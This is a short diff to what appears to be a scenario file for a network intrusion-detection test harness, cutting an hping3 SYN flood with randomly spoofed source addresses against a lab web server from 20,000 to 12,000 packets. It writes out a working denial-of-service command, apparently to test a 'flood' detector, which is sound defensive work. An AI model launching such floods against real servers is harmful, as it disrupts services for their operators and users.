@@ -1,5 +1,5 @@
 """hping3 SYN flood with random spoofed sources against the city's web
-server: 20,000 SYNs at up to 20,000 per second."""
+server: 12,000 SYNs at up to 20,000 per second."""
 import benign
 
 NAME = 'hping-synflood'
@@ -10,7 +10,7 @@ LIVE = True
 EXPECT = [100101]
 DETECTORS = ['flood']
 ATTACKER = '198.51.100.66'
-CMD = ['hping3', '-S', '-p', '80', '--rand-source', '-c', '20000', '-i', 'u50', '-q',
+CMD = ['hping3', '-S', '-p', '80', '--rand-source', '-c', '12000', '-i', 'u50', '-q',
        benign.WEB]
 
 
